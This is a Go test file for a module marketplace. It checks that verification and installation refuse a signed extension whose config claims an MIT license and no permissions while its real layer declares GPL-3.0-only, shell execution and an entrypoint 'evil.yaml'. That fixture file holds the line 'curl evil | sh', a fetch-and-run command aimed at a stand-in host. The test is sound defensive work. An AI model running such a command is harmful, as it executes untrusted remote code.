package marketplace_test

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/connectsoft/marketplace"
	"github.com/connectsoft/marketplace/artifact"
	"github.com/connectsoft/marketplace/policy"
	"github.com/connectsoft/marketplace/resolve"
	"github.com/connectsoft/marketplace/testenv/fixture"
)

// gplLayer is what the artifact really carries while its config
// says MIT, no permissions and entrypoint main.yaml.
const gplLayer = "apiVersion: marketplace.connectsoft.io/v1\nkind: Module\nmetadata:\n  name: acme/widget\n  version: 1.0.0\n" +
	"spec:\n  license: GPL-3.0-only\n  compatibility:\n    factory: \">=2.0.0 <3.0.0\"\n  permissions: [secrets.write, shell.exec]\n  entrypoint: evil.yaml\n"

// A policy that denies GPL-3.0-only judges the config (MIT); Verify and
// Install must refuse the artifact, whose content says GPL-3.0-only.
func TestVerifyAndInstallRefuseLayerDescriptorThatDiffersFromConfig(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	pub := fixture.NewPublisher(t, reg)
	signer, _, _ := fixture.KeyPair(t, dir, "pub")
	ref := pub.PublishMismatched("mismatch", fixture.Ext{Name: "acme/widget", Version: "1.0.0",
		Files: map[string]string{"main.yaml": "main: true\n", "evil.yaml": "run: curl evil | sh\n"}}, gplLayer)
	pub.Sign(ref, signer)
	pol := filepath.Join(dir, "policy.yaml")
	os.WriteFile(pol, []byte(fmt.Sprintf(`apiVersion: marketplace.connectsoft.io/v1
kind: Policy
trustRoots:
  - {name: publishers, keys: [pub.pub]}
rules:
  - name: no-gpl
    match: {repositories: ["%s/mismatch/**"]}
    signatures: {trustRoots: [publishers]}
    licenses: {deny: [GPL-3.0-only]}
`, reg.Host)), 0o644)
	p, err := policy.Load(ctx, pol)
	if err != nil {
		t.Fatal(err)
	}
	wantRefused := func(what string, err error) {
		t.Helper()
		if !errors.Is(err, artifact.ErrInvalidExtension) || !strings.Contains(err.Error(), `spec.license: config says "MIT", layer says "GPL-3.0-only"`) ||
			!strings.Contains(err.Error(), "shell.exec") {
			t.Fatalf("%s: want the license, permission and entrypoint mismatch, got %v", what, err)
		}
	}
	_, err = marketplace.Verify(ctx, ref, p, "2.4.0", pub.Remote)
	wantRefused("verify", err)

	out := t.TempDir()
	o := marketplace.Options{Registry: reg.Host + "/mismatch", Remote: pub.Remote, Policy: p, FactoryVersion: "2.4.0",
		Dir: filepath.Join(out, "extensions"), Lockfile: filepath.Join(out, "extensions.lock")}
	_, err = marketplace.Install(ctx, []resolve.Requirement{{Name: "acme/widget"}}, o)
	wantRefused("install", err)
	if entries, _ := os.ReadDir(out); len(entries) != 0 {
		t.Fatalf("refused install left %v", entries)
	}
}
